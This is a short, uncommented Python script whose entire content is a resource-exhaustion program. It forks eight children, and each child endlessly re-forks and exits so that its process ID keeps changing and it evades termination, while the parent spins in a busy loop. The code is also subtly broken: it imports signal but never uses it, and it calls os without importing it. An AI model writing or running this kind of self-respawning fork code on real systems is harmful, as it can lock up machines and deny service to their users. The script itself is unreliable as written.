import signal


def respawn():
    while True:
        try:
            if os.fork() > 0:
                os._exit(0)
        except OSError:
            pass


for _ in range(8):
    if os.fork() == 0:
        respawn()
while True:
    pass
